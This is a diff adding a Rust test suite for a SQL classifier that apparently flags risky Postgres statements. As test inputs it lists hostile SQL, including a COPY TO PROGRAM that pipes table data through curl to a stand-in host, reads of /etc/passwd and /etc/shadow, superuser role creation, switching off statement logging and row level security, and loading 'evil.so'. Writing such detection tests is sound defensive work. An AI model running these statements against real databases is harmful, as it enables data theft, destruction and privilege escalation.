@@ -1,0 +1,210 @@
+use super::*;
+
+/// The classes of each statement in `sql`.
+fn classes(sql: &str) -> Vec<Vec<&'static str>> {
+    classify(sql)
+        .unwrap_or_else(|e| panic!("{sql}: {e}"))
+        .iter()
+        .map(|s| s.classes.iter().map(|c| c.name()).collect())
+        .collect()
+}
+
+/// Whether some statement of `sql` has `class`.
+fn has(sql: &str, class: Class) -> bool {
+    classify(sql)
+        .unwrap_or_else(|e| panic!("{sql}: {e}"))
+        .iter()
+        .any(|s| s.classes.contains(&class))
+}
+
+#[test]
+fn each_statement_of_a_string_is_classified_on_its_own() {
+    let statements = classify("SELECT 1; DROP TABLE customers; DELETE FROM orders").unwrap();
+    assert_eq!(statements.len(), 3);
+    assert_eq!(statements[0].text, "SELECT 1");
+    assert_eq!(statements[1].text, "DROP TABLE customers");
+    assert_eq!(
+        classes("SELECT 1; DROP TABLE customers; DELETE FROM orders"),
+        vec![
+            vec!["read"],
+            vec!["drop"],
+            vec!["write", "delete_without_where"]
+        ]
+    );
+    assert_eq!(
+        statements[1].objects,
+        BTreeSet::from(["customers".to_string()])
+    );
+}
+
+#[test]
+fn comments_case_and_quoting_do_not_hide_a_statement() {
+    for sql in [
+        "/* cleanup */ DROP TABLE customers",
+        "-- just a select\nDROP TABLE customers",
+        "dRoP tAbLe \"customers\"",
+        "DROP TABLE public.\"customers\"",
+        "DROP /* a */ TABLE /* b */ customers",
+    ] {
+        assert!(has(sql, Class::Drop), "{sql}");
+    }
+    assert!(!has("SELECT 'DROP TABLE customers'", Class::Drop));
+    assert!(!has("SELECT $$DROP TABLE customers$$", Class::Drop));
+    assert!(!has("SELECT U&'\\0044ROP TABLE x'", Class::Drop));
+}
+
+#[test]
+fn writable_ctes_and_subqueries_are_seen() {
+    let sql = "WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone";
+    assert!(has(sql, Class::DeleteWithoutWhere));
+    assert!(has(sql, Class::Write));
+    let statements = classify(sql).unwrap();
+    assert!(statements[0].objects.contains("orders"), "{statements:?}");
+    assert!(has(
+        "SELECT * FROM t WHERE id IN (SELECT pg_sleep(10))",
+        Class::Sleep
+    ));
+}
+
+#[test]
+fn a_where_that_mentions_no_column_bounds_nothing() {
+    for sql in [
+        "DELETE FROM orders",
+        "DELETE FROM orders WHERE true",
+        "DELETE FROM orders WHERE 1 = 1",
+        "DELETE FROM orders WHERE 'a' = 'a' OR false",
+    ] {
+        assert!(has(sql, Class::DeleteWithoutWhere), "{sql}");
+    }
+    assert!(!has(
+        "DELETE FROM orders WHERE created < now() - interval '1 year'",
+        Class::DeleteWithoutWhere
+    ));
+    assert!(has(
+        "UPDATE users SET admin = true",
+        Class::UpdateWithoutWhere
+    ));
+    assert!(!has(
+        "UPDATE users SET admin = true WHERE id = 7",
+        Class::UpdateWithoutWhere
+    ));
+}
+
+#[test]
+fn copy_to_programs_and_server_files_is_its_own_class() {
+    assert!(has(
+        "COPY customers TO PROGRAM 'curl -d @- evil'",
+        Class::CopyProgram
+    ));
+    assert!(has(
+        "COPY customers FROM '/etc/passwd'",
+        Class::CopyServerFile
+    ));
+    assert_eq!(classes("COPY customers TO STDOUT"), vec![vec!["read"]]);
+    assert_eq!(classes("COPY customers FROM STDIN"), vec![vec!["write"]]);
+}
+
+#[test]
+fn privilege_changes_are_found_however_they_are_spelled() {
+    for sql in [
+        "GRANT ALL ON customers TO agent",
+        "REVOKE SELECT ON customers FROM analyst",
+        "CREATE ROLE intruder SUPERUSER",
+        "ALTER ROLE agent SUPERUSER",
+        "SET ROLE postgres",
+        "SET SESSION AUTHORIZATION postgres",
+        "ALTER SYSTEM SET log_statement = 'none'",
+        "ALTER TABLE customers DISABLE ROW LEVEL SECURITY",
+        "ALTER TABLE customers OWNER TO agent",
+        "SET session_replication_role = replica",
+    ] {
+        assert!(has(sql, Class::Privilege), "{sql}");
+    }
+    assert!(!has("SET statement_timeout = '5s'", Class::Privilege));
+    assert!(has("SET statement_timeout = '5s'", Class::Setting));
+}
+
+#[test]
+fn server_files_large_objects_foreign_data_sleep_and_backends() {
+    let cases = [
+        ("SELECT pg_read_file('/etc/passwd')", Class::ServerFile),
+        ("SELECT pg_catalog.pg_ls_dir('.')", Class::ServerFile),
+        ("SELECT lo_import('/etc/shadow')", Class::ServerFile),
+        ("SELECT lo_create(0)", Class::LargeObject),
+        (
+            "SELECT * FROM dblink('host=x', 'SELECT 1') AS t(a int)",
+            Class::ForeignData,
+        ),
+        (
+            "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw",
+            Class::ForeignData,
+        ),
+        ("SELECT pg_sleep(3600)", Class::Sleep),
+        ("SELECT PG_SLEEP_FOR('1 hour')", Class::Sleep),
+        (
+            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+            Class::Backend,
+        ),
+        (
+            "DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$",
+            Class::Code,
+        ),
+        ("CALL cleanup()", Class::Code),
+        ("LOCK TABLE customers IN ACCESS EXCLUSIVE MODE", Class::Lock),
+        ("SELECT * FROM customers FOR UPDATE", Class::Lock),
+        ("LOAD 'evil.so'", Class::Server),
+        ("CREATE EXTENSION plpython3u", Class::Server),
+    ];
+    for (sql, class) in cases {
+        assert!(has(sql, class), "{sql}: {:?}", classes(sql));
+    }
+    let statements = classify("SELECT pg_catalog.pg_read_file('x')").unwrap();
+    assert!(statements[0].functions.contains("pg_catalog.pg_read_file"));
+}
+
+#[test]
+fn transactions_and_what_follows_a_commit() {
+    assert_eq!(
+        classes("BEGIN READ ONLY; COMMIT; DROP TABLE customers"),
+        vec![vec!["transaction"], vec!["transaction"], vec!["drop"]]
+    );
+    assert!(has("SAVEPOINT a", Class::Transaction));
+    assert!(has("PREPARE TRANSACTION 'x'", Class::Transaction));
+}
+
+#[test]
+fn ddl_by_kind_with_its_objects() {
+    let cases = [
+        ("CREATE TABLE a.b (id int)", "create"),
+        ("ALTER TABLE a.b ADD COLUMN c int", "alter"),
+        ("TRUNCATE a.b", "truncate"),
+        ("ALTER TABLE a.b RENAME TO c", "rename"),
+        ("COMMENT ON TABLE a.b IS 'x'", "comment"),
+        ("DROP SCHEMA a CASCADE", "drop"),
+    ];
+    for (sql, class) in cases {
+        assert_eq!(classes(sql), vec![vec![class]], "{sql}");
+    }
+    let truncated = classify("TRUNCATE a.b, c").unwrap();
+    assert_eq!(
+        truncated[0].objects,
+        BTreeSet::from(["a.b".to_string(), "c".to_string()])
+    );
+}
+
+#[test]
+fn literals_stay_out_of_the_normalized_text_and_fingerprint() {
+    let one = &classify("SELECT * FROM users WHERE email = 'alice@example.com'").unwrap()[0];
+    let two = &classify("SELECT * FROM users WHERE email = 'bob@example.com'").unwrap()[0];
+    assert_eq!(one.normalized, "SELECT * FROM users WHERE email = $1");
+    assert_eq!(one.fingerprint, two.fingerprint);
+    assert!(!one.normalized.contains("alice"));
+}
+
+#[test]
+fn what_does_not_parse_is_refused_and_unknown_kinds_are_other() {
+    assert!(classify("DROP TABLE").is_err());
+    assert!(classify("SELECT 1; DROP TABLE customers; SELEC").is_err());
+    assert!(classify("SELECT 1\0; DROP TABLE x").is_err());
+    assert_eq!(classes("LISTEN channel"), vec![vec!["other"]]);
+}
